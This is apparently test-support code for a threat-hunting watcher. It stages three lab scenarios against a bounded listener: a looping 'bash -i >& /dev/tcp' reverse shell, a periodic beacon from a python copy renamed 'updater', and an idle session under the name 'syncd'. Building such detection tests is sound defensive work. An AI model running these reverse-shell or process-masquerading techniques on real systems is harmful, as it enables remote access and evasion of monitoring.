"""What only ``harden hunt --watch`` sees, started for real inside a lab container (test support).

- a transient reverse shell: a loop that opens ``bash -i >& /dev/tcp/...`` every ``gap + hold``
  seconds; the listener closes each connection after ``hold`` seconds, so each shell lives that
  long, and a single snapshot taken in a gap misses it;
- a beacon: one process (a python3 copy renamed ``updater``, so no name says "interpreter")
  connecting to the same destination every ``period`` seconds for ``open_s`` seconds;
- a quiet long-lived session: another renamed copy (``syncd``) holding one idle connection.

All loops are bounded in count; every connection goes to :class:`HoldingListener` on the lab
bridge (198.18.0.1), which is bounded in connections and lifetime. Processes are found by the
``HUNT_SCENARIO`` mark in their environment (:func:`hunt_scenarios.scenario_pids`) and killed
by pid.

Example::

    with HoldingListener(hold=2.0) as short, Listener(lifetime=90) as long:
        for i, case in enumerate(watch_scenarios(short.port, long.port), start=100):
            start(container, case, i)
"""

from __future__ import annotations

import contextlib
import shlex
import socket
import time

from hunt_scenarios import BIN, GATEWAY, Listener, Scenario

TRANSIENT, BEACON, QUIET = 100, 101, 102  # HUNT_SCENARIO marks (the one-snapshot scenarios use 0..n)


class HoldingListener(Listener):
    """A :class:`Listener` that closes each accepted connection ``hold`` seconds after accepting it, and
    records when it accepted and closed each (``events``: (accepted, closed) monotonic times)."""

    def __init__(self, hold: float, lifetime: float = 90.0, max_conns: int = 64) -> None:
        super().__init__(lifetime, max_conns)
        self.hold = hold
        self.events: list[tuple[float, float | None]] = []
        self._open: list[tuple[socket.socket, int]] = []

    def _tick(self, now: float) -> None:
        for conn, i in list(self._open):
            if now - self.events[i][0] >= self.hold:
                with contextlib.suppress(OSError):
                    conn.close()
                self.events[i] = (self.events[i][0], now)
                self._open.remove((conn, i))

    def _take(self, conn: socket.socket) -> None:
        self.conns.append(conn)
        self.events.append((time.monotonic(), None))
        self._open.append((conn, len(self.events) - 1))

    def closed(self) -> int:
        return sum(1 for _, c in self.events if c is not None)


def watch_scenarios(short_port: int, long_port: int, rounds: int = 6, gap: float = 5.0) -> tuple[Scenario, ...]:
    """The transient shell loop (to ``short_port``), the beacon (to ``short_port``) and the quiet session
    (to ``long_port``), in HUNT_SCENARIO order TRANSIENT, BEACON, QUIET."""
    shell = f"bash -i >& /dev/tcp/{GATEWAY}/{short_port} 0>&1"
    loop = f"i=0; while [ $i -lt {rounds} ]; do bash -c {shlex.quote(shell)}; sleep {gap:g}; i=$((i+1)); done"
    beacon = (
        "import socket,time\n"
        "for i in range(12):\n"
        # held 2 s: a sample at least every 2 s (1 s asked, slower under load) sees every one
        f"    s=socket.create_connection(('{GATEWAY}',{short_port}),timeout=5); time.sleep(2); s.close()\n"
        "    time.sleep(2)\n"
    )
    quiet = (
        f"import socket,time\ns=socket.create_connection(('{GATEWAY}',{long_port}),timeout=5)\n"
        "s.sendall(b'hello\\n')\ntime.sleep(80)\n"
    )
    write = "mkdir -p /opt/app && printf %s {src} > /opt/app/{name}.py && cp {bin}/python3.11 {bin}/{exe}"
    return (
        Scenario("transient reverse shell (a loop reopening bash /dev/tcp)", True, loop, "bash -i"),
        Scenario(
            "beacon (renamed python, a short connection every 4 s)",
            True,
            write.format(src=shlex.quote(beacon), name="beacon", bin=BIN, exe="updater")
            + f" && exec {BIN}/updater /opt/app/beacon.py </dev/null >/dev/null 2>&1",
            "beacon.py",
        ),
        Scenario(
            "quiet long-lived session (renamed python, one idle connection)",
            True,
            write.format(src=shlex.quote(quiet), name="quiet", bin=BIN, exe="syncd")
            + f" && exec {BIN}/syncd /opt/app/quiet.py </dev/null >/dev/null 2>&1",
            "quiet.py",
        ),
    )
